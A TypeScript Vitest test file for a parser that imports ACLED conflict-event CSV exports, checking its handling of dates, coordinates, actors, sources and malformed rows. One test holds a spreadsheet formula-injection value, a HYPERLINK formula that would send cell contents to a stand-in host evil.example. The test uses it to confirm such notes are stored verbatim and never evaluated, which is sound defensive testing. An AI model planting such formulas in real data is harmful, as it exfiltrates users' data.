import { describe, expect, it } from 'vitest';
import { acled } from '../../../src/lib/io/formats/acled';
import { toJson } from '../../../src/lib/io/formats/export';
import { eventById, expectLoads, fixture, messages } from './helpers';

describe('ACLED current export (31 columns, BOM, CRLF)', () => {
  const result = acled.parse(fixture('acled-current.csv'), 'acled-current.csv');

  it('is detected by its header despite the BOM', () => {
    expect(acled.detect(fixture('acled-current.csv'), 'acled-current.csv')).toBe(true);
  });

  it('counts rows and reports the ragged row, the n/a latitude and the decimal comma by row and line', () => {
    expect(result.rows).toEqual({ total: 6, imported: 4, skipped: 2 });
    expect(result.problems).toEqual([
      { severity: 'error', row: 3, line: 6, message: 'row 3: expected 31 fields, found 29; row skipped' },
      { severity: 'warning', row: 4, line: 7, message: "row 4: latitude 'n/a' is not a number; location left empty" },
      {
        severity: 'error',
        row: 5,
        line: 8,
        message:
          "row 5: latitude '2,0371' has a decimal comma; import with the decimal-comma option to read it as 2.0371; row skipped",
      },
    ]);
  });

  it('keeps the quoted multi-line note with commas and quotes as the summary', () => {
    const e = eventById(result, 'SOM1001');
    expect(e.summary).toBe(
      'On 15 March 2024, Somali forces clashed with Al Shabaab in Hodan, Mogadishu.\nCasualties: 3, reported by "local sources".\nFollow-up, clashes continued.',
    );
    expect(e.title).toBe('Armed clash in Mogadishu');
    expect(e).toMatchObject({ date: '2024-03-15', category: 'battles', fatalities: { min: 3, by: 'ACLED' } });
    expect(e.approximate).toBeUndefined();
    expect(e.location).toEqual({
      name: 'Mogadishu',
      lat: 2.0371,
      lon: 45.3438,
      precision: 'city',
      note: 'ACLED geo_precision 1: the named town or village (assumed meaning; read as city precision)',
    });
    expect(e.sources).toEqual([
      { publisher: 'Garowe Online', title: 'ACLED event SOM1001', url: 'https://acleddata.com/' },
      { publisher: 'Radio Shabelle', title: 'ACLED event SOM1001', url: 'https://acleddata.com/' },
    ]);
    expect(e.tags).toEqual(['political-violence', 'armed-clash', 'somalia', 'banaadir']);
  });

  it('splits associated actors, marks week-level dates approximate and tags civilian targeting', () => {
    const e = eventById(result, 'SOM1002');
    expect(e.actors).toEqual(['Al Shabaab', 'Civilians (Somalia)', 'Farmers (Somalia)', 'Women (Somalia)']);
    expect(e).toMatchObject({ date: '2024-03-16', approximate: true, category: 'violence-against-civilians' });
    expect(e.location?.precision).toBe('region');
    expect(e.location?.note).toBe(
      'ACLED geo_precision 2: near the named place or part of a region (assumed meaning; read as region precision)',
    );
    expect(e.tags).toContain('civilian-targeting');
  });

  it('imports formula-like notes verbatim (never evaluated, never trimmed)', () => {
    expect(eventById(result, 'SOM1002').summary).toBe('=HYPERLINK("https://evil.example/?d="&A1,"x")');
    expect(eventById(result, 'SOM1006').summary).toBe('\t=1+1 An IED exploded.');
    expect(toJson(result.dataset!)).toContain('"summary": "=HYPERLINK(\\"https://evil.example/?d=\\"&A1,\\"x\\")"');
  });

  it('reads geo_precision 3 as region, deduplicates sources and turns the tags column into tags', () => {
    const e = eventById(result, 'SOM1006');
    expect(e.location?.precision).toBe('region');
    expect(e.approximate).toBe(true);
    expect(e.sources.map((s) => s.publisher)).toEqual(['Radio Shabelle', 'Garowe Online']);
    expect(eventById(result, 'SOM1004').location).toBeNull();
    expect(eventById(result, 'SOM1004').tags).toContain('crowd-size-no-report');
  });

  it('says what it mapped and dropped', () => {
    expect(result.mapped).toContain(
      'geo_precision 1 (the named town or village) → city, 2 (near it, or part of a region) → region, 3 (a larger region) → region; never site. The meanings are assumed from ACLED\'s codebook as summarised in our reference, which has only "level of certainty of the location"; each location note names the assumption',
    );
    expect(result.mapped.some((m) => m.includes('https://acleddata.com/'))).toBe(true);
    expect(result.dropped).toEqual(
      expect.arrayContaining(['timestamp', 'iso', 'source_scale', 'inter1 (actor-type code, numeric or text)']),
    );
  });

  it('gives a dataset that loads with no errors and no warnings', () => {
    expect(expectLoads(result)).toEqual([]);
    expect(result.dataset!.categories.map((c) => c.id)).toEqual([
      'battles',
      'violence-against-civilians',
      'protests',
      'explosions-remote-violence',
    ]);
  });
});

describe('ACLED legacy export', () => {
  const result = acled.parse(fixture('acled-legacy.csv'), 'acled-legacy.csv');

  it('ignores the unnamed index column, reads dd-mm-yyyy and "15 March 2016" dates and refuses 31-02', () => {
    expect(result.rows).toEqual({ total: 3, imported: 2, skipped: 1 });
    expect(messages(result, 'error')).toEqual([
      "row 3: event_date '31-02-2016' is not a calendar date (February 2016 has 29 days); row skipped",
    ]);
    expect(result.problems[0]!.line).toBe(4);
    expect(eventById(result, 'SOM1').date).toBe('2016-01-05');
    expect(eventById(result, 'SOM2')).toMatchObject({ date: '2016-03-15', approximate: true });
    expect(result.dropped).toEqual(
      expect.arrayContaining(['the unnamed index column', 'gwno', 'data_id', 'event_id_no_cnty']),
    );
  });

  it('keeps ally actors, numeric inter codes do not matter, and the title falls back to event_type', () => {
    const e = eventById(result, 'SOM1');
    expect(e.actors).toEqual([
      'Military Forces of Somalia (2012-2017)',
      'AMISOM: African Union Mission in Somalia (2007-)',
      'Al Shabaab',
    ]);
    expect(e.title).toBe('Battles-No change of territory in Marka');
    expect(e.fatalities).toEqual({ min: 4, by: 'ACLED' });
    expect(eventById(result, 'SOM2').sources.map((s) => s.publisher)).toEqual(['Garowe Online', 'Reuters']);
    expectLoads(result);
  });
});

describe('ACLED semicolon-delimited Excel export with decimal commas', () => {
  const text = fixture('acled-excel-semicolon.csv');

  it('detects the delimiter and refuses decimal commas unless asked', () => {
    const result = acled.parse(text, 'x.csv');
    expect(result.dataset).toBeNull();
    expect(result.rows).toEqual({ total: 3, imported: 0, skipped: 3 });
    expect(messages(result, 'error')[0]).toBe(
      "row 1: latitude '2,0371' has a decimal comma; import with the decimal-comma option to read it as 2.0371; row skipped",
    );
    expect(result.problems.map((p) => p.line)).toEqual([2, 4, 5, undefined]);
  });

  it('reads them with the decimalComma option, keeping the multi-line note with its semicolon', () => {
    const result = acled.parse(text, 'x.csv', { decimalComma: true });
    expect(result.rows).toEqual({ total: 3, imported: 3, skipped: 0 });
    expect(result.problems).toEqual([]);
    expect(eventById(result, 'SOM2001').location).toMatchObject({ lat: 2.0371, lon: 45.3438 });
    expect(eventById(result, 'SOM2003').location).toMatchObject({ lat: -1.5, lon: -12.5 });
    expect(eventById(result, 'SOM2001').summary).toBe('Semicolon; inside a note, and a "quote".\nSecond line.');
    expectLoads(result);
  });
});

describe('ACLED edge cases', () => {
  const header = 'event_id_cnty,event_date,event_type,location,latitude,longitude,geo_precision,source,notes';
  const parse = (rows: string[]) => acled.parse([header, ...rows].join('\n'), 'e.csv');

  it.each([['NaN'], ['Infinity'], ['1e400'], ['12.3.4'], ['']])('treats latitude %j as missing, never 0,0', (lat) => {
    const result = parse([`X1,2020-01-01,Battles,Here,${lat},10,1,S,n`]);
    expect(result.dataset!.events.at(0)!.location).toBeNull();
    expect(messages(result, 'warning')).toEqual([
      lat === ''
        ? 'row 1: latitude is empty; location left empty'
        : `row 1: latitude '${lat}' is not a number; location left empty`,
    ]);
  });

  it('refuses out-of-range coordinates and suggests a swap when it would help', () => {
    const result = parse(['X1,2020-01-01,Battles,Here,120,45,1,S,n', 'X2,2020-01-01,Battles,Here,10,200,1,S,n']);
    expect(messages(result, 'error')).toEqual([
      'row 1: latitude 120 is out of range (-90 to 90); did you swap latitude and longitude?; row skipped',
      'row 2: longitude 200 is out of range (-180 to 180); row skipped',
      'no events could be imported',
    ]);
  });

  it('reports a duplicate event id and a missing column', () => {
    const result = parse(['X1,2020-01-01,Battles,Here,1,2,1,S,n', 'X1,2020-01-02,Battles,Here,1,2,1,S,n']);
    expect(messages(result, 'error')).toEqual(['row 2: duplicate id "X1" (also row 1); row skipped']);
    expect(acled.parse('event_id_cnty,event_date\nX,2020-01-01', 'm.csv').problems[0]!.message).toBe(
      'line 1: not an ACLED export: missing columns event_type, latitude, longitude',
    );
  });
});
